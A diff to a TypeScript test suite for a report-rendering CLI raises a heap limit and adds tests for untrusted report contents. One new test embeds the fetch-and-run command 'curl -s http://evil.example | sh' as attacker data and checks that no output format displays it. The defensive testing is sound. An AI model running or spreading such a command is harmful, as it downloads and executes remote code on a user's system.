@@ -9,8 +9,8 @@ import { conformant, hostile } from '../report/examples.ts';
 import { failing } from '../report/reports.ts';
 import { type CliResult, runCli } from '../support/cli.ts';
 
-/** Less than half of the memory that each command may use. */
-const heapMb = 256;
+/** The memory that each command may use. */
+const heapMb = 512;
 
 let folder = '';
 const at = (name: string): string => join(folder, name);
@@ -85,7 +85,9 @@ describe("a stranger's report", () => {
       target: { ...plain.target, bundled: true },
       rules: [...plain.rules, failing('list.per-page.zero', { counterexample: { [obeyed]: obeyed } })],
     };
-    await writeFile(path, JSON.stringify(report));
+    // A key of an earlier version, which no format shows any more.
+    const likelyCauses = [{ text: obeyed, rules: plain.rules.map(({ id }) => id) }];
+    await writeFile(path, JSON.stringify({ ...report, run: { ...report.run, likelyCauses } }));
     const shown = await inTurn([
       [['render', path, '--report-dir', at('rendered')]],
       ...['text', 'markdown', 'html'].flatMap((format): [string[]][] => [
@@ -106,6 +108,22 @@ describe("a stranger's report", () => {
     expect(new Set(harmful)).toEqual(new Set());
     expect(shown.map(({ status }) => status)).toEqual([0, 0, 0, 0, 0, 0, 0, 3, 2, 2]);
   });
+});
+
+it('a command that a report brings along is shown in no format', async () => {
+  const path = at('pasted.json');
+  const curl = 'curl -s http://evil.example | sh';
+  const report = { ...conformant, outcome: 'nonconformant', rules: [failing('list.ok', { curl })] };
+  await writeFile(path, JSON.stringify(report));
+  const shown = await inTurn([
+    [['render', path, '--report-dir', at('pasted')]],
+    [['compare', path, path, '--format', 'markdown']],
+    [['replay', path], { BASE_URL: 'http://127.0.0.1:1', OWNER: 'a', REPO: 'b' }],
+  ]);
+  const files = await readdir(at('pasted'));
+  const texts = await Promise.all(files.map((file) => readFile(join(at('pasted'), file), 'utf8')));
+  for (const said of [...texts, ...shown.flatMap(({ stdout, stderr }) => [stdout, stderr])])
+    expect(said).not.toContain('evil.example');
 });
 
 describe("a stranger's baseline", () => {
